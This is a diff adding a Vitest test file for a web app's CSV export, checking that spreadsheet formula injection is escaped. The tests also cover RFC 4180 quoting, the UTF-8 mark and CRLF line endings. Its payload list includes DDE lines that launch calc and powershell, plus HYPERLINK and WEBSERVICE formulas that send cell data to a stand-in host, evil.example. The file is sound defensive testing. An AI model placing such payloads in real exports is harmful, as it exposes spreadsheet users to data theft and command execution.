@@ -1,0 +1,129 @@
+import { describe, expect, it } from 'vitest';
+import { toCsv } from '../../web/src/ui/csv.ts';
+
+const SIGNS = ['=', '+', '-', '@', '＝', '＋', '－', '＠'];
+
+const FORMULAS = [
+  "cmd|' /C calc'!A0",
+  '1+1',
+  'HYPERLINK("https://evil.example?"&A1,"Click")',
+  'SUM(A1:A9)*cmd|"/C powershell"!A0',
+  'WEBSERVICE("https://evil.example/"&B2)',
+];
+
+const BEFORE = ['', ' ', '\t', '\r', '\n'];
+
+/** Every sign, with every formula, behind everything that a spreadsheet may strip. */
+const PAYLOADS = SIGNS.flatMap((sign) =>
+  FORMULAS.flatMap((formula) => BEFORE.map((before) => `${before}${sign}${formula}`)),
+);
+
+/** RFC 4180, written apart from what it checks. `separator`: how a spreadsheet of another country reads the file. */
+function parse(text: string, separator = ','): string[][] {
+  const rows: string[][] = [[]];
+  let at = 0;
+  while (at < text.length) {
+    let value = '';
+    if (text[at] === '"') {
+      for (at += 1; text[at] !== '"' || text[at + 1] === '"'; at += 1) {
+        if (at >= text.length) throw new Error('A quoted cell has no end');
+        if (text[at] === '"') at += 1;
+        value += text[at];
+      }
+      at += 1;
+    }
+    while (at < text.length && text[at] !== separator && text[at] !== '\r' && text[at] !== '\n') value += text[at++];
+    rows.at(-1)?.push(value);
+    if (text[at] === separator) {
+      at += 1;
+      continue;
+    }
+    at += text.startsWith('\r\n', at) ? 2 : 1;
+    if (at < text.length) rows.push([]);
+  }
+  return rows;
+}
+
+const columns = [
+  { header: 'Name', value: ({ name }: { name: string | number | undefined }) => name },
+  { header: 'After', value: () => 'end' },
+];
+
+const exported = (...names: (string | number | undefined)[]) =>
+  toCsv(
+    columns,
+    names.map((name) => ({ name })),
+  );
+/** As a line's second cell: its quotes then hold nothing together where semicolons divide. */
+const afterAnother = (text: string) =>
+  toCsv([{ header: 'Number', value: () => 'TX-17' }, ...columns], [{ name: text }]).slice(1);
+const cellOf = (name: string | number | undefined) => parse(exported(name).slice(1))[1]?.[0];
+
+/** Whether a spreadsheet would take this cell for a formula. */
+const isLive = (cell: string) => /^[\s\0"]*[=+\-@＝＋－＠]/.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell);
+
+describe('formulas in exports (ASVS 1.2.10)', () => {
+  it('has 200 payloads to try, each of which is live as it is', () => {
+    expect(new Set(PAYLOADS).size).toBe(200);
+    expect(PAYLOADS.every(isLive)).toBe(true);
+  });
+
+  it.each(PAYLOADS)('%j is a text in the file', (payload) => {
+    const rows = parse(exported(payload).slice(1));
+    expect(rows).toEqual([
+      ['Name', 'After'],
+      [`'${payload.replace(/([\t\r\n])(?=[=+\-@＝＋－＠])/g, "$1'")}`, 'end'],
+    ]);
+    expect(rows.flat().filter(isLive)).toEqual([]);
+  });
+
+  it.each(PAYLOADS)('%j is a text behind a semicolon, where that divides cells', (payload) => {
+    const cells = parse(afterAnother(`Amelie;${payload};Thornbury`), ';').flat();
+    expect(cells.length).toBeGreaterThan(3);
+    expect(cells.filter(isLive)).toEqual([]);
+  });
+
+  it('is a text behind a control character, a zero-width space and a zero', () => {
+    for (const hidden of ['\0', '\u200B', '\u00A0', '\u0001']) expect(cellOf(`${hidden}=1+1`)).toBe(`'${hidden}=1+1`);
+  });
+
+  it('leaves numbers as numbers', () => {
+    expect(exported('-12.50', -12.5, 0, 1e21, '17').slice(1)).toBe(
+      'Name,After\r\n-12.50,end\r\n-12.5,end\r\n0,end\r\n1e+21,end\r\n17,end\r\n',
+    );
+    for (const almost of ['-12.50-', '-1+2', '--1', '-', '+12.50', '-1e5', '-.5'])
+      expect(cellOf(almost)).toBe(`'${almost}`);
+  });
+
+  it('escapes the header as well', () => {
+    expect(parse(toCsv([{ header: '=1+1', value: () => 1 }], [{}]).slice(1))[0]).toEqual(["'=1+1"]);
+  });
+});
+
+describe('a CSV file', () => {
+  it('begins with the mark of UTF-8 and ends every line with CR LF', () => {
+    expect(exported('Amelie')).toBe('\u{FEFF}Name,After\r\nAmelie,end\r\n');
+  });
+
+  it('has only its header when there are no rows', () => {
+    expect(exported()).toBe('\u{FEFF}Name,After\r\n');
+  });
+
+  it('brings commas, quotes, line breaks and other scripts back as they were', () => {
+    const names = [
+      'Thornbury, Amelie',
+      'the "Moor"',
+      'two\r\nlines',
+      'two\nlines',
+      '  spaces  ',
+      'Żółć 日本 🏦',
+      '',
+      "O'Hara",
+    ];
+    expect(parse(exported(...names).slice(1)).slice(1)).toEqual(names.map((name) => [name, 'end']));
+  });
+
+  it('leaves a cell empty where there is nothing', () => {
+    expect(cellOf(undefined)).toBe('');
+  });
+});
